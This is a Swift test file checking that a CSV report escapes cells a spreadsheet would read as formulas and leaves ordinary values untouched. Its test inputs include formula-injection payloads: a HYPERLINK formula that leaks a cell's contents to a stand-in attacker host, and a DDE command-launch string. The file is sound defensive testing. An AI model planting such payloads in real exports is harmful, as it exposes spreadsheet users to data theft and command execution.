/// CSVReportTests.swift: a report's CSV opens in a spreadsheet as text, never as a formula;
/// a file meant to be read back keeps its values exactly.
import Bindings
import Testing

@Suite struct CSVReportTests {
    /// Every start a spreadsheet reads as a formula gets a leading `'`; numbers, plain text and
    /// a formula character further in do not.
    @Test func aFormulaIsShownAsText() {
        for formula in [#"=HYPERLINK("https://evil.example/?"&A1)"#, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"] {
            #expect(CSV.spreadsheetCell(formula) == "'" + formula)
        }
        for kept in ["", "ada", "-5", "+42", "3.5e2", "a=b", "ada@example.com", "'quoted already"] {
            #expect(CSV.spreadsheetCell(kept) == kept)
        }
        #expect(CSV.reportLine(["1", #"=HYPERLINK("x")"#, "a,b"]) == #"1,"'=HYPERLINK(""x"")","a,b""#)
        #expect(CSV.line(["=1+1", "@x"]) == "=1+1,@x")
    }
}
